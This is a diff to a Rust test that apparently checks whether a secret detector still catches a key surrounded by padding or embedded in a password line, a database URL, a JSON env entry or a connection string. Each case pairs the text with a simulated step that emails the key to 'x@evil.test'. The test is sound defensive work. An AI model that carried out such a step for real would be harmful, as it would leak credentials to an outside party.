@@ -134,6 +134,8 @@ fn what_stands_around_a_secret_does_not_hide_it() {
         format!("{}\npassword: {KEY}", "key:".repeat(900)),
         format!("{}\npostgres://app:{KEY}@db", "key:".repeat(900)),
         format!("{made_up}password: {KEY}"),
+        format!("{{\"env\":[{{\"name\":\"DB_PASSWORD\",\"value\":\"{KEY}\"}}]}}"),
+        format!("Server=db;Password={KEY};Encrypt=true"),
     ];
     for shown in &shown {
         let steps = case("same session", json!(shown), json!({ "to": "x@evil.test", "body": KEY }));
